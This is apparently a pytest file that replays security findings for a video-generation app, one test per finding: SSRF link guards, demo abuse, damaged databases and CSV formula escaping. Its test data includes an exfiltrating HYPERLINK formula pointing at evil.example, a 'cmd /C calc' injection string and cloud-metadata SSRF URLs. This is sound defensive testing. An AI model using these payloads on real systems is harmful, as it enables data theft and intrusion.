"""What probing the running app found (a full disk, hostile links, an abused demo, a missing key, a damaged
database, leftovers, formulas, headers and bodies, a paid task nobody held), replayed; one test per finding.

No packet leaves this machine: "public" hosts are names a fake resolver answers and a
test backend maps onto listeners on 127.0.0.1; listeners standing for the machine's
own services must receive nothing.
"""

from __future__ import annotations

import concurrent.futures
import csv
import errno
import http.server
import io
import logging
import os
import socket
import sqlite3
import threading
import time
from pathlib import Path

import httpcore
import httpx
import pytest

from lib import archive, demo, export, hooks, net, probe, recovery
from lib import worker as wk
from lib.client import EvolinkClient, RateLimitError, key_fingerprint
from lib.schema import GenerationRequest, Task
from lib.simulator import serve_in_thread
from lib.status import TERMINAL, RunStatus
from lib.store import NewRun, Store
from lib.transfer import CALLBACK_MAX
from tests.support.media import make_mp4
from tests.support.provider import FakeProvider
from tests.support.runs import KEY, assert_clear_outcome, request, scaled_worker, submit_runs, wait_terminal
from tests.support.server import AppProcess
from tests.support.simulator import ManualPool
from tests.support.waiting import wait_until

SPEED = 40.0
PUBLIC = "93.184.216.34"  # what the fake resolver says the "public" CDN is; mapped onto 127.0.0.1


# --- helpers ---------------------------------------------------------------------------------------


class Listener:
    """A socket on 127.0.0.1 standing for one of the machine's own services: it must receive nothing."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]

    def received(self) -> int:
        count = 0
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return count
            conn.close()
            count += 1

    def close(self) -> None:
        self.sock.close()


class FileServer:
    """A tiny HTTP server on 127.0.0.1: ``/video.mp4`` and ``/redirect?to=<url>``."""

    def __init__(self, body: bytes) -> None:
        outer = self
        self.hits: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                outer.hits.append(self.path)
                if self.path.startswith("/redirect?to="):
                    self.send_response(302)
                    self.send_header("Location", self.path.split("=", 1)[1])
                    self.end_headers()
                    return
                self.send_response(200)
                self.send_header("Content-Type", "video/mp4")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


class LocalInternet(httpcore.NetworkBackend):
    """Connections to ``PUBLIC`` go to a server on 127.0.0.1 instead; anything else is a test failure."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.inner = httpcore.SyncBackend()
        self.connected: list[tuple[str, int]] = []

    def connect_tcp(self, host, port, timeout=None, local_address=None, socket_options=None):
        self.connected.append((host, port))
        assert host == PUBLIC, f"a connection to {host} was attempted"
        return self.inner.connect_tcp("127.0.0.1", self.port, timeout=timeout)

    def sleep(self, seconds):
        self.inner.sleep(seconds)


def completed_provider(urls: dict[str, str]) -> FakeProvider:
    """A provider whose tasks (id -> result link) are already complete."""
    provider = FakeProvider()
    for task_id, url in urls.items():
        provider.tasks[task_id] = {
            "id": task_id,
            "status": "completed",
            "progress": 100,
            "results": [url],
            "task_info": {"estimated_time": 1},
        }
    return provider


def submitted_run(store: Store, ws_id: str, task_id: str, fingerprint: str = key_fingerprint(KEY)):
    run = store.create_run(ws_id, request(0), 10.0, True, fingerprint)
    assert store.claim_submit(run.id)
    return store.mark_submitted(run.id, Task(id=task_id, status="pending", task_info={"estimated_time": 1}))


def step_until_ended(worker, store, run_ids, clock, limit=400):
    for _ in range(limit):
        if all(store.get_run(i).status in TERMINAL for i in run_ids):
            return
        clock[0] += 0.5
        worker.run_once(clock[0])
    raise AssertionError({i: store.get_run(i).status for i in run_ids})


# --- 1. disk full while archiving ---------------------------------------------------------------


def test_1_a_full_disk_ends_each_run_clearly_after_a_few_spaced_downloads(tmp_path, monkeypatch, caplog):
    """Every write fails with ENOSPC: each run is downloaded ARCHIVE_ATTEMPTS times, backing off, then ends
    ``failed`` / ``disk_full`` with a plain message; the log says so once per run, not once per attempt."""
    writes = []

    def disk_full(out, chunk):
        writes.append(len(chunk))
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(archive, "write_chunk", disk_full)
    caplog.set_level(logging.DEBUG)
    sim = serve_in_thread(port=0, speed=SPEED, data_dir=tmp_path / "sim", balance=1e9)
    store = Store(tmp_path / "data")
    ws = store.create_workspace("disk full")
    client = EvolinkClient(KEY, base_url=sim.base_url)
    w = scaled_worker(store, sim.base_url, SPEED).start()
    try:
        ids = submit_runs(store, ws.id, client, 3, "full")
        wait_terminal(store, ids)
        # Wait for the last attempt's bookkeeping too, then look at what happened.
        wait_until(lambda: not w.archiver.busy)
    finally:
        w.close()
        client.close()
        sim.stop()
    runs = assert_clear_outcome(store, sim.app.engine, ids)
    assert [(r.status, r.error_code) for r in runs] == [(RunStatus.FAILED, "disk_full")] * 3
    assert all("disk is full" in r.error_message and "Tell the facilitator" in r.error_message for r in runs)
    stats = w.stats()
    assert stats["downloads"] == 3 * wk.ARCHIVE_ATTEMPTS  # bounded: 870 in 10 s before
    assert len(writes) == stats["downloads"]
    about_runs = [r for r in caplog.records if r.name.startswith("studio.worker")]
    assert len(about_runs) <= 3, [r.getMessage() for r in about_runs]  # one line per run at most
    assert not any(r.exc_info for r in about_runs)  # an expected failure, not a traceback


# --- 2. server-side request forgery ---------------------------------------------------------------


@pytest.fixture
def lan(tmp_path):
    """(internal listener, file server for the fake public CDN, backend, fake DNS)."""
    inside = Listener()
    cdn = FileServer(make_mp4(seconds=4, width=864, height=496))
    backend = LocalInternet(cdn.port)
    dns = {"cdn.example": [PUBLIC], "rebind.example": ["127.0.0.1"], "metadata.example": ["169.254.169.254"]}

    def resolve(host, port):
        if host not in dns:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return dns[host]

    yield inside, cdn, backend, resolve
    inside.close()
    cdn.close()


def test_2_links_to_the_machine_or_its_network_are_never_opened_not_even_by_a_redirect(tmp_path, lan):
    inside, cdn, backend, resolve = lan
    own = f"http://127.0.0.1:{inside.port}"
    links = {
        "task-unified-1-loopback0": f"{own}/video.mp4",
        "task-unified-2-localhost": f"http://localhost:{inside.port}/video.mp4",
        "task-unified-3-health000": f"{own}/api/health",
        "task-unified-4-metadata0": "http://169.254.169.254/latest/meta-data/",
        "task-unified-5-rebinding": f"http://rebind.example:{inside.port}/video.mp4",
        "task-unified-6-metaname0": "http://metadata.example/latest/meta-data/",
        "task-unified-7-redirect0": f"http://cdn.example/redirect?to={own}/video.mp4",
        "task-unified-8-redirect1": f"http://cdn.example/redirect?to=http://rebind.example:{inside.port}/x.mp4",
        "task-unified-9-public000": "http://cdn.example/video.mp4",
    }
    provider = completed_provider(links)
    store = Store(tmp_path)
    ws = store.create_workspace("ssrf")
    runs = {task_id: submitted_run(store, ws.id, task_id).id for task_id in links}
    clock = [time.time()]
    download = httpx.Client(transport=net.GuardedTransport(resolve=resolve, backend=backend), follow_redirects=False)
    w = wk.Worker(store, download_client=download, clock=lambda: clock[0], archive_backoff=0.0)
    w.register_key(KEY, "https://api.test", transport=provider.transport)
    try:
        step_until_ended(w, store, list(runs.values()), clock)
    finally:
        w.close()
    ended = {task_id: store.get_run(run_id) for task_id, run_id in runs.items()}
    good = ended.pop("task-unified-9-public000")
    assert good.status == RunStatus.ARCHIVED  # a public link is still saved, through the checked address
    for task_id, run in ended.items():
        assert (run.status, run.error_code) == (RunStatus.FAILED, "archive_failed"), task_id
        assert "not a public address" in run.error_message, (task_id, run.error_message)
    assert inside.received() == 0  # nothing reached the machine's own services
    assert {host for host, _ in backend.connected} == {PUBLIC}
    assert w.stats()["downloads"] == len(links)  # refused links are not tried again
    assert sorted(hit.split("?")[0] for hit in cdn.hits) == ["/redirect", "/redirect", "/video.mp4"]


def test_2_reference_video_probes_take_the_same_guard(lan):
    inside, _cdn, backend, resolve = lan

    client = httpx.Client(transport=net.GuardedTransport(resolve=resolve, backend=backend), follow_redirects=False)
    assert probe.video_seconds("http://cdn.example/video.mp4", client=client) == pytest.approx(4.0, abs=0.3)
    for url in (
        f"http://127.0.0.1:{inside.port}/video.mp4",
        f"http://rebind.example:{inside.port}/video.mp4",
        f"http://cdn.example/redirect?to=http://127.0.0.1:{inside.port}/video.mp4",
    ):
        assert probe.video_seconds(url, client=client) is None
    assert inside.received() == 0


# --- 3. the demo cannot be emptied by anyone -------------------------------------------------------


@pytest.fixture(scope="module")
def demo_server(tmp_path_factory):
    """The whole app in demo mode, with one archived video in its media folder."""
    data = tmp_path_factory.mktemp("demo-server")
    (data / "media").mkdir()
    (data / "media" / f"{'a' * 32}.mp4").write_bytes(make_mp4())
    app = AppProcess(data).start()
    yield app
    app.stop()


def test_3_the_embedded_demo_answers_only_the_app(demo_server):
    body = request(0).to_payload()
    answers = [
        httpx.post(
            f"{demo_server.url}/sim/v1/videos/generations",
            json=body,
            headers={"Authorization": f"Bearer {token}"},
            timeout=10,
        ).status_code
        for token in ["demo-key-offline-simulator", "sk-anything", *(f"x{i}" for i in range(34))]
    ]
    assert answers == [401] * 36
    records = demo_server.data_dir / "simulator" / "tasks"
    assert not records.exists() or list(records.iterdir()) == []  # nothing created, nothing spent


def test_3_a_burst_from_one_workspace_does_not_hold_up_another(tmp_path):
    sim = serve_in_thread(port=0, speed=1000, data_dir=tmp_path / "sim", balance=1e9, render_workers=1)
    try:
        burst = EvolinkClient(KEY, base_url=sim.base_url, headers={demo.WORKSPACE_HEADER: "ws-burst"}, max_retries=0)
        other = EvolinkClient(KEY, base_url=sim.base_url, headers={demo.WORKSPACE_HEADER: "ws-other"}, max_retries=0)
        engine = sim.app.engine
        # Renders end when the test says: all nine are queued before the first one ends,
        # however fast this machine renders.
        renders = ManualPool()
        engine.renders._submit = renders.submit
        theirs = [burst.create(request(i, "burst")).id for i in range(8)]
        mine = other.create(request(0, "mine")).id
        renders.drain()  # one render process: the next render starts as one ends
        order = [job.label for job in renders.jobs]
        assert sorted(order) == sorted([*theirs, mine])
        assert order.index(mine) == 1, order  # behind the render already running, not the whole burst
        # Past its share the burst is told to slow down, as the provider would, and nothing is created.
        limit = engine.renders.per_workspace
        pool = engine.renders
        pool._submit = lambda fn, job: concurrent.futures.Future()  # renders that never end
        created = []
        with pytest.raises(RateLimitError) as full:
            for i in range(limit + 1):
                created.append(burst.create(request(100 + i, "flood")).id)
        assert full.value.status == 429 and full.value.code == "rate_limit_exceeded"
        assert full.value.retry_after and 1 <= full.value.retry_after <= 30
        assert len(created) == limit
        assert other.create(request(1, "mine")).id  # the other workspace still gets in
        burst.close()
        other.close()
    finally:
        sim.stop()


def test_3_the_demo_balance_is_fresh_at_every_start(tmp_path):
    from lib.simulator import create_app
    from tests.support.simulator import TestClient

    auth = {"Authorization": f"Bearer {demo.key()}"}
    first = create_app(speed=1000, data_dir=tmp_path, balance=demo.BALANCE, api_key=demo.key())
    with TestClient(first, headers=auth) as client:
        task = client.post("/v1/videos/generations", json=request(0).to_payload()).json()
        first.engine.tasks[task["id"]].render.result(timeout=60)
        wait_until(lambda: client.get(f"/v1/tasks/{task['id']}").json()["status"] == "completed")
        assert client.get("/v1/credits").json()["data"]["token"]["remaining_credits"] < demo.BALANCE
    first.close()
    again = create_app(speed=1000, data_dir=tmp_path, balance=demo.BALANCE, api_key=demo.key())
    with TestClient(again, headers=auth) as client:
        assert client.get("/v1/credits").json()["data"]["token"]["remaining_credits"] == demo.BALANCE
        assert client.get(f"/v1/tasks/{task['id']}").json()["status"] == "completed"  # the run itself survives
    again.close()


# --- 4. a personal key that is gone -----------------------------------------------------------------


def test_4_callbacks_for_a_run_whose_key_is_gone_cost_nothing_until_the_key_returns(tmp_path):
    sim = serve_in_thread(port=0, speed=SPEED, data_dir=tmp_path / "sim", balance=1e9)
    store = Store(tmp_path / "data")
    ws = store.create_workspace("personal")
    personal = "sk-pasted-in-a-browser"
    with EvolinkClient(personal, base_url=sim.base_url) as client:
        [run_id] = submit_runs(store, ws.id, client, 1, "personal")
    w = scaled_worker(store, sim.base_url, SPEED).start()  # a restarted server: it holds its own key only
    steps = [0]
    real_step = w._step

    def counted(*args, **kwargs):
        steps[0] += 1
        return real_step(*args, **kwargs)

    w._step = counted
    try:
        task_id = store.get_run(run_id).task_id
        wait_until(lambda: w.stats().get("waiting_for_key", 0) > 0)
        before, started, pokes = steps[0], time.monotonic(), 0
        while time.monotonic() - started < 3.0:  # a callback arriving again and again
            w.poke_task(task_id)
            pokes += 1
            time.sleep(0.2)
        took = time.monotonic() - started
        # Before: a step every 20 ms (about 150 here). Now the loop's idle pace: the callbacks are remembered.
        assert steps[0] - before <= took / w.idle_wait + 3, (steps[0] - before, pokes)
        assert w.stats()["parked"] == 1 and store.get_run(run_id).poll_count == 0
        w.register_key(personal, sim.base_url)
        wait_terminal(store, [run_id])
    finally:
        w.close()
        sim.stop()
    [run] = assert_clear_outcome(store, sim.app.engine, [run_id])
    assert run.status == RunStatus.ARCHIVED


# --- 5. a damaged database ---------------------------------------------------------------------------


def test_5_a_damaged_header_at_start_is_explained_and_the_server_still_answers(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "studio.db").write_bytes(b"\x00" * 100 + b"garbage" * 2000)
    app = AppProcess(data).start(healthy=False)
    try:
        r = httpx.get(f"{app.url}/api/health")
        assert r.status_code == 503 and r.json()["database"] == "damaged"
        assert httpx.get(app.url).status_code == 200  # the page that explains it is served
        log = app.log_path.read_text(errors="replace")
        assert "is damaged or unreadable" in log and ".recover" in log and "backup" in log
    finally:
        app.stop()


def test_5_damaged_pages_behind_a_good_header_turn_health_red(tmp_path):
    data = tmp_path / "data"
    store = Store(data)
    ws = store.create_workspace("soon damaged")
    store.create_runs(ws.id, [NewRun(request(i, "x" * 200), 1.0) for i in range(400)], fingerprint="k_x")
    app = AppProcess(data).start()
    try:
        assert httpx.get(f"{app.url}/api/health").json()["database"] == "ok"
        path = data / "studio.db"
        with sqlite3.connect(path) as db:
            db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        raw = bytearray(path.read_bytes())
        for offset in range(3 * 4096, len(raw) - 4096, 4 * 4096):
            raw[offset + 64 : offset + 1000] = b"\xee" * 936
        path.write_bytes(bytes(raw))

        def red():
            r = httpx.get(f"{app.url}/api/health")
            return r.status_code == 503 and r.json()["database"] == "damaged"

        wait_until(red, message="health stayed ok on a damaged database")
        assert app.proc.poll() is None  # still serving
    finally:
        app.stop()


# --- 6. leftovers --------------------------------------------------------------------------------------


def test_6_partial_downloads_a_crash_left_are_removed_at_start(tmp_path):
    data = tmp_path / "data"
    crashed = data / "tmp" / "dl-crashed"
    crashed.mkdir(parents=True)
    (crashed / "video.mp4.part").write_bytes(os.urandom(64 * 1024))
    (data / "tmp" / "tmp1234.part").write_bytes(b"x" * 4096)  # as older versions named them
    with archive._scratch(data) as live:  # another server on the same data dir, downloading right now
        (live / "video.mp4.part").write_bytes(b"in progress")
        app = AppProcess(data).start()
        try:
            assert sorted(p.name for p in (data / "tmp").iterdir()) == [live.name]
            assert "removed 2 partial download(s)" in app.log_path.read_text(errors="replace")
        finally:
            app.stop()


# --- 7. formulas in exports -------------------------------------------------------------------------------


def test_7_text_that_spreadsheets_would_run_is_exported_as_text(tmp_path):
    evil = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
    store = Store(tmp_path)
    ws = store.create_workspace("+cmd|' /C calc'!A0")
    provider = FakeProvider()
    req = GenerationRequest(model="seedance-2.0-fast-text-to-video", prompt="@SUM(1+1)*cmd", duration=4)
    from lib import submit

    with EvolinkClient(KEY, base_url="https://api.test", transport=provider.transport) as client:
        run = submit.prepare(store, ws.id, req, fingerprint=client.fingerprint, submit_key="k", participant="-2+3")
        run = submit.send(store, client, run)
    failed = {"id": run.task_id, "status": "failed", "error": {"code": "unknown_error", "message": evil}}
    store.update_from_task(run.id, Task.model_validate(failed))
    store.set_notes(run.id, "=1+1")
    run = store.get_run(run.id)
    [row] = list(csv.DictReader(io.StringIO(export.to_csv([run]).decode(), newline="")))
    for column, text in (("prompt", req.prompt), ("participant", "-2+3"), ("error_message", evil), ("notes", "=1+1")):
        assert row[column] == "'" + text
    doc = export.to_json(ws, [run]).decode()
    assert evil.replace('"', '\\"') in doc and "'=" not in doc  # JSON stays exact


# --- 8. headers and bodies -----------------------------------------------------------------------------------


def _rss_kb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return 0


def test_8_headers_ranges_and_a_huge_callback(demo_server):
    app, token, video = demo_server, "a" * 32, make_mp4()
    for path in ("/", "/api/health", f"/api/media/{token}", "/api/hooks/evolink/wrong", "/sim/v1/credits"):
        r = httpx.post(f"{app.url}{path}") if "hooks" in path else httpx.get(f"{app.url}{path}")
        assert r.headers["x-content-type-options"] == "nosniff", path
        assert r.headers["referrer-policy"] == "same-origin", path
        assert "frame-ancestors 'self'" in r.headers["content-security-policy"], path
    r = httpx.get(f"{app.url}/api/media/{token}", headers={"Range": "bytes=5-2"})
    assert (r.status_code, len(r.content)) == (200, len(video))  # 400 before: the whole file instead

    url = f"{app.url}/api/hooks/evolink/{hooks.hook_secret(app.data_dir)}"
    before = _rss_kb(app.proc.pid)

    def body():
        yield b'{"id": "task-unified-1", "pad": "'
        for _ in range(300):  # 300 MB, with no length declared
            yield b"z" * (1024 * 1024)

    r = httpx.post(url, content=body(), headers={"content-type": "application/json"}, timeout=60)
    assert r.status_code == 413
    assert _rss_kb(app.proc.pid) - before < 50 * 1024  # +600 MB before
    assert httpx.post(url, content=b"x" * (CALLBACK_MAX + 1)).status_code == 413


# --- 9. a paid task nobody held ---------------------------------------------------------------------------------


def test_9_a_task_whose_answer_was_lost_is_attached_and_saved(tmp_path):
    sim = serve_in_thread(port=0, speed=SPEED, data_dir=tmp_path / "sim", balance=1e9, drop_rate=1.0)
    store = Store(tmp_path / "data")
    ws = store.create_workspace("lost answer")
    client = EvolinkClient(KEY, base_url=sim.base_url, max_retries=0)
    w = scaled_worker(store, sim.base_url, SPEED).start()
    try:
        [run_id] = submit_runs(store, ws.id, client, 1, "lost")
        run = store.get_run(run_id)
        assert run.status == RunStatus.UNKNOWN and run.task_id is None  # correctly not resent
        [task_id] = list(sim.app.engine.tasks)  # what the provider's dashboard shows
        sim.app.faults = type(sim.app.faults)()  # the network is fine again
        with pytest.raises(recovery.AttachRefused):
            recovery.attach(store, client, run, "task-unified-0-notmine00")
        saved = recovery.attach(store, client, run, task_id)
        assert saved.task_id == task_id and saved.status in (RunStatus.PENDING, RunStatus.PROCESSING)
        w.poke(run_id)
        wait_terminal(store, [run_id])
        other = store.create_run(ws.id, request(1), 1.0, True, client.fingerprint)
        store.claim_submit(other.id)
        store.mark_unknown(other.id, "submit_interrupted", "The app stopped while sending this run.")
        with pytest.raises(recovery.AttachRefused, match="another run"):
            recovery.attach(store, client, store.get_run(other.id), task_id)
    finally:
        w.close()
        client.close()
        sim.stop()
    assert store.get_run(run_id).status == RunStatus.ARCHIVED
    assert sim.app.state.stats["POST /v1/videos/generations"] == 1  # paid once, never resent
